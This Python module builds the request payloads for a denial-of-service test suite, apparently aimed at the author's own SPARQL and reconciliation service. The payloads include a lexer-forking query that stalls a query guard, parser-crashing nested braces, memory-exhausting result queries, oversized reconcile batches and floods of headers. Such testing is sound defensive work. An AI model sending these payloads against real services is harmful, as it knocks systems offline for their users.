"""The requests the attacks send."""

from __future__ import annotations

import itertools
import json
import urllib.parse

from .config import (
    BIG_ANSWER_PAD,
    BIG_ANSWER_ROWS,
    CRASH_DEPTH,
    GUARD_QUERY_CHARS,
    RECONCILE_ALLOWED_VALUES,
    RECONCILE_BATCH,
    RECONCILE_TEXT_CHARS,
    RECONCILE_VALUES,
    SLOW_QUERY,
)
from .wire import Target, http_request, sparql_get, sparql_post


def slow_query(target: Target, i: int, headers=()) -> bytes:
    return sparql_get(target, f"{SLOW_QUERY} # {i}", headers)


def reconcile_post(target: Target, batch: dict) -> bytes:
    body = urllib.parse.urlencode({"queries": json.dumps(batch, ensure_ascii=False)})
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    return http_request(target, "POST", "/reconcile", form, body.encode("ascii"))


def reconcile_by_agencies(target: Target, i: int) -> bytes:
    """One property-only query with :data:`RECONCILE_VALUES` agency names and slugs, each with a
    suffix of its own, so that none names an agency: every case is tested against all of them."""
    names = target.agency_names
    values = [f"{names[(i + k) % len(names)]} {i}-{k}" for k in range(RECONCILE_VALUES)]
    return reconcile_post(target, {"q0": {"properties": [{"pid": "agency", "v": values}]}})


def reconcile_allowed_most(target: Target, i: int) -> bytes:
    """The heaviest batch the service takes: :data:`RECONCILE_BATCH` property-only queries, each
    with :data:`RECONCILE_ALLOWED_VALUES` agency values (its limit) that name no agency."""
    names = target.agency_names

    def values(k: int) -> list[str]:
        return [f"{names[(i + k + j) % len(names)]} {i}-{k}-{j}" for j in range(RECONCILE_ALLOWED_VALUES)]

    return reconcile_post(target, {f"q{k}": {"properties": [{"pid": "agency", "v": values(k)}]}
                                   for k in range(RECONCILE_BATCH)})


def reconcile_texts(target: Target, i: int) -> bytes:
    """A full batch of text queries, each :data:`RECONCILE_TEXT_CHARS` of case names."""
    texts = target.case_texts

    def text(k: int) -> str:
        run = itertools.islice(itertools.cycle(texts), (i + k) % len(texts), None)
        out = ""
        while len(out) < RECONCILE_TEXT_CHARS:
            out += next(run) + " "
        return out[:RECONCILE_TEXT_CHARS]

    return reconcile_post(target, {f"q{k}": {"query": text(k)} for k in range(RECONCILE_BATCH)})


def guard_query(i: int) -> str:
    """A query that :mod:`api.sparql.guard` takes seconds to check, and passes.

    Its work bound counts lexer steps, one per token, not the characters a step reads. After an
    operand, ``<#>`` is an IRI or a less-than followed by a comment; each such ``<`` forks a
    reading whose first token is that comment, which reads to the end of the line. So ``<#>``
    over and over on one line costs two steps per three characters (within the bound) and makes
    every fork read the rest of the query; ``FROM`` in the comment line makes the full check
    run, and a ``\\u`` escape makes it run twice (on the text with escapes decoded too). The
    engine then refuses it as a syntax error, at once.
    """
    head = f"# FROM \\u0041 {i}\nASK {{ FILTER(EXISTS {{ ?a ?b "
    tail = " }) }"
    return head + "<#>" * ((GUARD_QUERY_CHARS - len(head) - len(tail)) // 3) + tail


def guard_post(target: Target, i: int) -> bytes:
    return sparql_post(target, guard_query(i))


def nested_post(target: Target, i: int) -> bytes:
    groups = "{" * CRASH_DEPTH + "}" * CRASH_DEPTH
    return sparql_post(target, f"SELECT * WHERE {groups} # {i}")


def big_answer_query(i: int) -> str:
    """About a kilobyte of query; its answer, :data:`BIG_ANSWER_ROWS` rows of 4 KB or more.

    Every triple three times over (``VALUES``: 10,000 rows from a release of 3,334 triples or
    more), evaluated lazily: a join of two triple patterns instead would be built in memory
    first, past a worker's memory limit on a million triples.
    """
    pad = "x" * BIG_ANSWER_PAD
    return (f"# big {i}\nSELECT ?s ?x WHERE {{ ?s ?p ?o VALUES ?k {{ 1 2 3 }} "
            f'BIND(CONCAT(STR(?o), "{pad}") AS ?a) BIND(CONCAT(?a, ?a, ?a, ?a) AS ?x) }} '
            f"LIMIT {BIG_ANSWER_ROWS}")


def big_answer(target: Target, i: int) -> bytes:
    return sparql_get(target, big_answer_query(i))


def big_answer_page(target: Target, i: int) -> bytes:
    path = "/query?query=" + urllib.parse.quote(big_answer_query(i), safe="")
    return http_request(target, "GET", path, [("Accept", "text/html")])


def many_headers(target: Target, i: int) -> bytes:
    return http_request(target, "GET", "/-/health", [(f"X-h{k}", "v") for k in range(100_000)])


def huge_header(target: Target, i: int) -> bytes:
    return http_request(target, "GET", "/-/health", [("X-big", "a" * 1_000_000)])
